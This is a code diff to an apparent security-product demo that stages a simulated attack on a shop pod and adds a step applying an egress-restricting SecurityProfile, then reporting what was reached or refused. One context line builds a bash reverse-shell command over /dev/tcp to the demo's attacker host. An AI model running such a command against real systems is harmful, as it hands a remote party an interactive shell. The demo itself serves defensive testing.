@@ -17,11 +17,11 @@ from demo.attack import Attack, account, boot_to_wall_ns, times_of
 from demo.observer import Observer
 from demo.recording import save
 from demo.report import Report
-from demo.scene import ATTACKER_NAME, FIRST_SHELL_PORT, Reader, Scene
+from demo.scene import ADDRESSES, ATTACKER_NAME, FIRST_SHELL_PORT, Reader, Scene
 from stream_apps.correlate.ledger import LossLedger
 
 if TYPE_CHECKING:
-    from collections.abc import Callable, Sequence
+    from collections.abc import Callable, Mapping, Sequence
 
     from demo.screen import Screen
 
@@ -33,6 +33,7 @@ MAX_ATTACKS = 8
 SETTLE_S = 1.0  # after a cut: what arrived before it has been read by the attacker
 CUT_TIMEOUT_S = 30.0
 RULE = "nsp.rce-egress"
+VISITS = 500
 QUIET_S = 1.0  # no further batch for so long: everything sent has been read
 
 
@@ -61,13 +62,14 @@ class Story:
                 customer = scene.start_shop(observer)
                 attacker = scene.start_attacker()
                 self._benign(observer, customer)
+                tried = self._profile(observer)
                 if self._attack_until_a_shell_opens(observer, attacker):
                     self._silence(observer, customer)
                 scene.end("workload client")
                 self._end_sensor(observer)
                 self._record(observer)
                 attacks = accounts(observer, self._subjects, attacker)
-                return balance(observer, attacks, self._attempts, customer)
+                return balance(observer, attacks, self._attempts, customer, tried)
 
     def _start_pipeline(self) -> None:
         scene, say = self._scene, self._screen.step
@@ -89,6 +91,27 @@ class Story:
         self._screen.step(
             f"{last['requests']} requests, {last['failed']} failed, {alerts} alerts: all is well"
         )
+
+    def _profile(self, observer: Observer) -> Mapping[str, Any]:
+        """Put a profile in force and have somebody in its pod try it; returns what came of it."""
+        self._screen.step(
+            "a SecurityProfile for the customer's pod: ask for the shop, reach it, nothing else"
+        )
+        for line in self._scene.apply_profile().splitlines():
+            self._screen.step(f"  nsp apply: {line}")
+        tried = self._scene.visit(VISITS)
+        self._show_for(observer, SETTLE_S)
+        self._screen.step(
+            f"{tried['resolved_and_reached']} times the shop's name was asked and its answer connected to at "
+            f"once: {tried['wrongly_refused']} wrongly refused",
+            "bold green",
+        )
+        self._screen.step(
+            f"the pod asked for {ATTACKER_NAME}: {tried['other_name']}; it dialled {ADDRESSES['attacker']}: "
+            f"{tried['other_address']}",
+            "bold green",
+        )
+        return tried
 
     def _attack_until_a_shell_opens(self, observer: Observer, attacker: Reader) -> bool:
         command = f"bash -c 'bash -i >& /dev/tcp/{ATTACKER_NAME}/{FIRST_SHELL_PORT} 0>&1'"
@@ -194,7 +217,13 @@ def accounts(observer: Observer, subjects: Sequence[str], attacker: Reader) -> l
     return found
 
 
-def balance(observer: Observer, attacks: Sequence[Attack], attempts: int, customer: Reader) -> Report:
+def balance(
+    observer: Observer,
+    attacks: Sequence[Attack],
+    attempts: int,
+    customer: Reader,
+    tried: Mapping[str, Any],
+) -> Report:
     """Return the report of a run that has ended."""
     seen = observer.read()
     ledger = LossLedger()
@@ -216,6 +245,9 @@ def balance(observer: Observer, attacks: Sequence[Attack], attempts: int, custom
         attacker_bytes_before_block=sum(each.bytes_before_block for each in attacks),
         attacker_bytes_after_block=sum(each.bytes_after_block for each in attacks),
         attacker_beacons_after_block=sum(each.beacons_after_block for each in attacks),
+        profile_reached=tried["resolved_and_reached"],
+        profile_wrongly_refused=tried["wrongly_refused"],
+        profile_refused=[tried["other_name"], tried["other_address"]],
         events_produced=totals.produced,
         events_seen=totals.seen,
         events_counted_lost=totals.lost,
